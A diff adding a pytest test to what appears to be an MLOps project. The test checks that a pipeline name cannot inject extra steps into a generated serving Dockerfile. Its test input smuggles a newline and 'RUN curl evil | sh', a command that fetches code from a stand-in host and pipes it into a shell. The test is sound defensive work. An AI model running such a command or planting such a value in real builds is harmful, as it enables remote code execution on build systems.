@@ -387,3 +387,14 @@ def test_the_server_imports_only_what_the_serving_image_holds() -> None:
     held = {"mlops_bot", *(f"mlops_bot.{n.removesuffix('.py')}"
                            for n in serving_image._SERVER_FILES)}
     assert {m for m in loaded if m not in held and not m.startswith("mlops_bot.serving.")} == set()
+
+
+def test_a_pipeline_name_never_adds_a_step_to_the_serving_dockerfile(tmp_path: Path) -> None:
+    from mlops_bot.serving_image import serving_image_request
+
+    request = serving_image_request("w\nRUN curl evil | sh", f"{REPOSITORY}/w:ch-1", "a" * 40,
+                                    tmp_path)
+    text = (tmp_path / (request.image.dockerfile or "")).read_text()
+    steps = [line.split()[0] for line in text.splitlines() if line and line[0] not in "# "]
+    assert steps == ["FROM", "USER", "RUN", "RUN", "COPY", "FROM", "COPY", "ENV", "EXPOSE", "CMD"]
+    assert "curl" not in text.replace("w-run-curl-evil-sh", "")
